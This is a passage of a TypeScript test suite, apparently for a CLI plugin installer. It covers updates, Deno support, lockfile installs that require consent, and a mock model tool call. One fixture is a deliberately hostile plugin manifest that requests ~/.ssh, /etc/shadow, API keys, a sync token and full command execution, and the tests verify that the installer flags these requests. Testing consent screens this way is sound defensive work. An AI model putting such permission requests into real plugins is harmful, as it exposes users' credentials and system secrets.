      expect(readdirSync(join(user.data, "plugin-store"))).toEqual(["test.greeter@1.0.0"]);

      const term = new PtyTerminal(process.execPath, [BUNDLE, "plugin", "update", "test.greeter"], {
        cwd: user.project, cols: 200, rows: 60,
        env: { PATH: process.env["PATH"] ?? "", HOME: user.home, URSA_HOME: user.data, npm_config_registry: own.url, NO_COLOR: "1" },
      });
      await term.waitFor((text) => text.includes("Update and grant the new permissions? [y/N]"), 45_000);
      term.type("y\r");
      expect(await term.exited).toBe(0);
      // The last output may reach the terminal emulator just after the exit.
      await term.waitFor((text) => text.includes("Updated test.greeter 1.0.0 → 1.1.0 (for you)."));
      const entry = lockOf(user.data).plugins["test.greeter"];
      expect(entry).toMatchObject({ version: "1.1.0", integrity: goodV2.integrity, granted: { net: ["api.greeter.example"], fs: { read: ["${project}", "~/.greeter.json"] } } });
      expect(readdirSync(join(user.data, "plugin-store"))).toEqual(["test.greeter@1.1.0"]);
    } finally {
      await own.close();
    }
  });

  it("add (and info) of another version marks what it asks beyond the installed grants as NEW, as update does", { timeout: 90_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", good.file, "--yes"])).code).toBe(0);
    for (const args of [["info", goodV2.file], ["add", goodV2.file, "--yes"]]) {
      const shown = await ursa(user, args);
      expect(shown.code, args[0]).toBe(0);
      expect(shown.stdout).toContain("    - read files in the open project\n");
      expect(shown.stdout).toContain("    ! read ~/.greeter.json in your home folder   (NEW: not granted before)\n");
      expect(shown.stdout).toContain("    - connect to api.greeter.example   (NEW: not granted before)\n");
    }
    expect(lockOf(user.data).plugins["test.greeter"].version).toBe("1.1.0");
  });

  it("update keeps a disabled plugin disabled", { timeout: 90_000 }, async () => {
    await withGreeterInstalled(async (user, own, env) => {
      expect((await ursa(user, ["disable", "test.greeter"], env)).code).toBe(0);
      own.publish(goodV2);
      const updated = await ursa(user, ["update", "test.greeter", "--yes"], env);
      expect(updated.code).toBe(0);
      expect(updated.stdout).toContain("Updated test.greeter 1.0.0 → 1.1.0 (for you); it stays disabled.\n");
      expect(lockOf(user.data).plugins["test.greeter"]).toMatchObject({ version: "1.1.0", enabled: false });
      expect(JSON.parse((await ursa(user, ["list", "--json"], env)).stdout)[0].status).toBe("disabled");
    });
  });
});

describe("the installer on Deno", () => {
  it("adds from the registry, lists and verifies, from the source entry", { timeout: 90_000 }, async () => {
    const user = newUser();
    const added = await runUrsa(["plugin", "add", `npm:${GREETER}@1.0.0`, "--yes"], { runtime: "deno", cwd: user.project, env: { HOME: user.home, URSA_HOME: user.data, npm_config_registry: registry.url }, timeoutMs: 60_000 });
    expect(added.stderr).toBe("");
    expect(added.code).toBe(0);
    expect(lockOf(user.data).plugins["test.greeter"]).toMatchObject({ integrity: good.integrity, tools: [{ name: "Greet" }, { name: "Farewell" }] });
    const deno = (args: string[]) => runUrsa(["plugin", ...args], { runtime: "deno", cwd: user.project, env: { HOME: user.home, URSA_HOME: user.data }, timeoutMs: 60_000 });
    const listed = await deno(["list", "--json"]);
    expect(listed.code).toBe(0);
    expect(JSON.parse(listed.stdout)[0]).toMatchObject({ id: "test.greeter", status: "enabled", integrity: good.integrity });
    expect(await deno(["verify"])).toMatchObject({ code: 0, stdout: "ok       test.greeter 1.0.0 (for you)\n" });
  });
});

describe("a project's lockfile on a colleague's machine: install --frozen shows what each plugin asks before allowing it", () => {
  let wire: AnthropicWireServer;
  beforeAll(async () => {
    wire = await startAnthropicWireServer();
  });
  afterAll(async () => wire?.close());

  /**
   * Someone commits a project whose lockfile pins a plugin asking for everything (commands, ~/.ssh,
   * /etc/shadow, the provider key and the sync token) and a harmless one; a colleague clones it.
   */
  async function clonedHostileProject(): Promise<User> {
    const author = newUser();
    const hostile = join(author.project, "vendor", "hostile");
    cpSync(join(FIXTURES, "install-good"), hostile, { recursive: true });
    const pkg = JSON.parse(readFileSync(join(hostile, "package.json"), "utf8"));
    writeFileSync(join(hostile, "package.json"), JSON.stringify({
      ...pkg, name: "@ursa-test/nice", ursa: { ...pkg.ursa, permissions: { fs: { read: ["${project}", "~/.ssh", "/etc/shadow"] }, env: ["ANTHROPIC_API_KEY", "URSA_SYNC_TOKEN"], run: true } },
    }));
    copyFileSync(echo.file, join(author.project, "vendor", "echo.tgz"));
    expect((await ursa(author, ["add", "./vendor/echo.tgz", "./vendor/hostile", "--project", "--yes"])).code).toBe(0);
    const colleague = newUser();
    cpSync(author.project, colleague.project, { recursive: true });
    return colleague;
  }

  /** What the hostile plugin's consent screen flags with "!", in order. */
  const HOSTILE_GRANTS = [
    "! read ~/.ssh in your home folder",
    "! read /etc/shadow outside the project: the system's password hashes",
    "! read your Anthropic API key (ANTHROPIC_API_KEY)",
    "! read your Ursa sync token (URSA_SYNC_TOKEN)",
    "! run commands: FULL ACCESS (a command runs as you, outside the sandbox)",
  ];

  const storeOf = (user: User) => (existsSync(join(user.data, "plugin-store")) ? readdirSync(join(user.data, "plugin-store")).sort() : []);

  /** One headless turn: the tools offered to the model and what Ursa said on stderr. */
  async function startSession(user: User): Promise<{ offered: string[]; stderr: string }> {
    wire.enqueue({ type: "message", blocks: [{ type: "text", text: "Nothing to do." }] });
    const before = wire.requests.length;
    const run = await runUrsa(["-p", "hello", "--mode", "auto"], {
      cwd: user.project, env: { HOME: user.home, URSA_HOME: user.data, ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: wire.url }, timeoutMs: 60_000,
    });
    expect(run.code).toBe(0);
    return { offered: (wire.requests[before]!.body as { tools: { name: string }[] }).tools.map((t) => t.name), stderr: run.stderr };
  }

  it("without a terminal refuses in one line, stores nothing of them, and they stay not allowed; --yes allows them; then nothing more is asked", { timeout: 180_000 }, async () => {
    const colleague = await clonedHostileProject();
    const refused = await ursa(colleague, ["install", "--frozen"]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toBe("ursa plugin: not allowed: test.echo 2.0.0, test.greeter 1.0.0 from the project's lockfile need your consent and there is no terminal to ask on; read what they ask above, then run ursa plugin install --frozen --yes to allow them\n");
    // The consent screen `add` shows, for what the lockfile grants.
    expect(refused.stdout).toContain("The project's lockfile pins test.greeter 1.0.0, which was not allowed on this machine:\n@ursa-test/nice 1.0.0 (plugin test.greeter, tool plugin)\n  from       ./vendor/hostile\n");
    expect(refused.stdout).toContain(["  it may", "    - read files in the open project", ...HOSTILE_GRANTS.map((line) => `    ${line}`)].join("\n"));
    expect(refused.stdout).toMatch(/\nnot allowed test\.echo 2\.0\.0 \(in this project\)\nnot allowed test\.greeter 1\.0\.0 \(in this project\)\n$/);
    expect(storeOf(colleague)).toEqual([]);
    expect(existsSync(join(colleague.data, "project-plugins.json"))).toBe(false);
    const before = await startSession(colleague);
    expect(before.stderr).toContain("plugin test.greeter is not loaded: ");
    expect(before.stderr).toContain("it was not allowed on this machine; run ursa plugin install --frozen in the project to review and allow it");
    expect(before.offered).not.toContain("Greet");

    const allowed = await ursa(colleague, ["install", "--frozen", "--yes"]);
    expect(allowed.stderr).toBe("");
    expect(allowed.code).toBe(0);
    expect(allowed.stdout).toContain("    ! run commands: FULL ACCESS (a command runs as you, outside the sandbox)");
    expect(allowed.stdout).toMatch(/\ninstalled test\.echo 2\.0\.0 \(in this project\)\ninstalled test\.greeter 1\.0\.0 \(in this project\)\n$/);
    expect(storeOf(colleague)).toEqual(["test.echo@2.0.0", "test.greeter@1.0.0"]);
    expect(await ursa(colleague, ["install", "--frozen"])).toMatchObject({ code: 0, stderr: "", stdout: "already installed test.echo 2.0.0 (in this project)\nalready installed test.greeter 1.0.0 (in this project)\n" });
    const after = await startSession(colleague);
    expect(after.stderr).not.toContain("not loaded");
    expect(after.offered).toEqual(expect.arrayContaining(["Echo", "Greet", "Farewell"]));
  });

  it("in a terminal asks [y/N] for each plugin not allowed here: n leaves that one not allowed while the other installs; the next run asks only about it", { timeout: 180_000 }, async () => {
    const colleague = await clonedHostileProject();
    const install = () => new PtyTerminal(process.execPath, [BUNDLE, "plugin", "install", "--frozen"], {
      cwd: colleague.project, cols: 200, rows: 120,
      env: { PATH: process.env["PATH"] ?? "", HOME: colleague.home, URSA_HOME: colleague.data, npm_config_registry: registry.url, NO_COLOR: "1" },
    });
    const QUESTION = "Install this plugin and grant what it asks in this project? [y/N]";
    const count = (text: string) => text.split(QUESTION).length - 1;
    const first = install();
    let screen = await first.waitFor((text) => count(text) === 1, 45_000);
    expect(screen).toContain("The project's lockfile pins test.echo 2.0.0, which was not allowed on this machine:");
    expect(screen).toContain("! read ~/.echorc in your home folder");
    expect(screen).not.toContain("@ursa-test/nice");
    first.type("y\r");
    screen = await first.waitFor((text) => count(text) === 2, 45_000);
    expect(screen).toContain("@ursa-test/nice 1.0.0 (plugin test.greeter, tool plugin)");
    for (const line of HOSTILE_GRANTS) expect(screen).toContain(line);
    first.type("n\r");
    expect(await first.exited).toBe(1);
    screen = await first.waitFor((text) => text.includes("not allowed test.greeter 1.0.0 (in this project)"));
    expect(screen).toContain("installed test.echo 2.0.0 (in this project)");
    expect(storeOf(colleague)).toEqual(["test.echo@2.0.0"]);
    expect(Object.values(JSON.parse(readFileSync(join(colleague.data, "project-plugins.json"), "utf8")) as string[][]).flat()).toHaveLength(1);

    const second = install();
    screen = await second.waitFor((text) => count(text) === 1, 45_000);
    expect(screen).toContain("The project's lockfile pins test.greeter 1.0.0, which was not allowed on this machine:");
    expect(screen).not.toContain("pins test.echo");
    second.type("y\r");
    expect(await second.exited).toBe(0);
    screen = await second.waitFor((text) => text.includes("installed test.greeter 1.0.0 (in this project)"));
    expect(screen).toContain("already installed test.echo 2.0.0 (in this project)");
    expect(count(screen)).toBe(1);
    expect(storeOf(colleague)).toEqual(["test.echo@2.0.0", "test.greeter@1.0.0"]);
    expect((await startSession(colleague)).offered).toEqual(expect.arrayContaining(["Echo", "Greet"]));
  });
});

describe("end to end: install, a model calls the tool, remove, reinstall from the lockfile", () => {
  let wire: AnthropicWireServer;
  beforeAll(async () => {
    wire = await startAnthropicWireServer();
  });
  afterAll(async () => wire?.close());

  // --mode auto: the greeter may write its private folder, so the host never takes its tools as read-only.
  const turn = async (user: User) => {
    wire.enqueue(
      { type: "message", blocks: [{ type: "tool_use", id: "t_greet", name: "Greet", input: { name: "Ada" } }] },
      { type: "message", blocks: [{ type: "text", text: "Greeted." }] },
    );
    const before = wire.requests.length;
    const run = await runUrsa(["-p", "greet Ada with the plugin", "--mode", "auto", "--output-format", "stream-json"], {
      cwd: user.project, env: { HOME: user.home, URSA_HOME: user.data, ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: wire.url }, timeoutMs: 60_000,
    });
    const offered = (wire.requests[before]!.body as { tools: { name: string }[] }).tools.map((t) => t.name);
    const events = run.stdout.trim().split("\n").map((line) => JSON.parse(line));
    return { run, offered, finished: events.filter((e) => e.type === "tool_call_finished") };
  };

  it("a headless turn runs the installed plugin's tool in its sandbox; after remove it is gone; install --frozen brings it back", { timeout: 180_000 }, async () => {
    const user = newUser();
    expect((await ursa(user, ["add", `npm:${GREETER}@1.0.0`, "--yes"])).code).toBe(0);

    const first = await turn(user);
    expect(first.run.stderr).not.toMatch(/not loaded|error/i);
    expect(first.run.code).toBe(0);
    expect(first.offered).toEqual(expect.arrayContaining(["Read", "Greet", "Farewell"]));
    expect(first.finished.map((e) => [e.name, e.success, e.output])).toEqual([["Greet", true, "Hello, Ada! (from the greeter plugin)"]]);

    const lock = readFileSync(join(user.data, "plugins.lock.json"), "utf8");
    expect((await ursa(user, ["remove", "test.greeter"])).code).toBe(0);
    wire.enqueue({ type: "message", blocks: [{ type: "text", text: "No such tool." }] });
    const before = wire.requests.length;
    const gone = await runUrsa(["-p", "greet Ada"], { cwd: user.project, env: { HOME: user.home, URSA_HOME: user.data, ANTHROPIC_API_KEY: "sk-test", ANTHROPIC_BASE_URL: wire.url }, timeoutMs: 60_000 });
    expect(gone.code).toBe(0);
    expect((wire.requests[before]!.body as { tools: { name: string }[] }).tools.map((t) => t.name)).not.toContain("Greet");

    const fresh = newUser();
    writeFileSync(join(fresh.data, "plugins.lock.json"), lock);
    expect(await ursa(fresh, ["install", "--frozen"])).toMatchObject({ code: 0, stdout: "installed test.greeter 1.0.0 (for you)\n" });
    const again = await turn(fresh);
    expect(again.run.code).toBe(0);
    expect(again.finished.map((e) => [e.name, e.success, e.output])).toEqual([["Greet", true, "Hello, Ada! (from the greeter plugin)"]]);
  });
});
